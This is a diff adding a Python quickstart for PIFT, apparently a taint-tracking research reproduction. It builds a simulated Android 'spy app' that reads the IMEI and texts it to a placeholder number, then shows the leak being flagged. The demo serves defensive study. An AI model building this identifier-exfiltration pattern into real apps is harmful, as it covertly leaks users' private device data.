@@ -1,0 +1,68 @@
+#!/usr/bin/env python3
+"""Quickstart: catch a data leak with PIFT.
+
+Builds a tiny spy app for the simulated Android device — it reads the
+device ID (IMEI), embeds it in a message, and texts it out — then shows
+PIFT flagging the sink while only watching memory loads and stores.
+
+Run:  python examples/quickstart.py
+"""
+
+from repro.android import AndroidDevice
+from repro.core import PAPER_DEFAULT
+from repro.dalvik import MethodBuilder
+
+
+def build_spy_app(builder: MethodBuilder) -> MethodBuilder:
+    """The equivalent Java:
+
+        String id = telephonyManager.getDeviceId();        // source
+        String msg = new StringBuilder("stolen id: ")
+                         .append(id).toString();
+        smsManager.sendTextMessage("+15558675309", null, msg);  // sink
+    """
+    builder.invoke_static("TelephonyManager.getDeviceId")
+    builder.move_result_object(0)
+    builder.new_instance(1, "java/lang/StringBuilder")
+    builder.invoke_direct("StringBuilder.<init>", 1)
+    builder.const_string(2, "stolen id: ")
+    builder.invoke("StringBuilder.append", 1, 2)
+    builder.invoke("StringBuilder.append", 1, 0)
+    builder.invoke("StringBuilder.toString", 1)
+    builder.move_result_object(3)
+    builder.const_string(4, "+15558675309")
+    builder.const(5, 0)
+    builder.invoke("SmsManager.sendTextMessage", 4, 5, 3)
+    builder.return_void()
+    return builder
+
+
+def main() -> None:
+    device = AndroidDevice(config=PAPER_DEFAULT)  # NI=13, NT=3, untainting
+    print(f"device up, PIFT configured as {device.config}")
+    print(f"device secrets: IMEI={device.secrets.imei}")
+
+    device.install([build_spy_app(MethodBuilder("Spy.main", registers=8)).build()])
+    device.run("Spy.main")
+
+    print("\nsink activity:")
+    for event in device.sinks:
+        flag = "LEAK DETECTED" if event.pift_alarm else "clean"
+        print(f"  [{event.channel}] -> {event.destination}: "
+              f"{event.payload!r}  ({flag})")
+
+    stats = device.stats
+    print(
+        f"\nPIFT work done: {stats.loads_observed} loads and "
+        f"{stats.stores_observed} stores observed over "
+        f"{device.cpu.instruction_count()} instructions;\n"
+        f"{stats.taint_operations} taint + {stats.untaint_operations} "
+        f"untaint operations; peak taint state "
+        f"{stats.max_tainted_bytes} bytes in {stats.max_range_count} ranges."
+    )
+    assert device.leak_detected
+    print("\nquickstart OK: the leak was caught watching only loads/stores.")
+
+
+if __name__ == "__main__":
+    main()
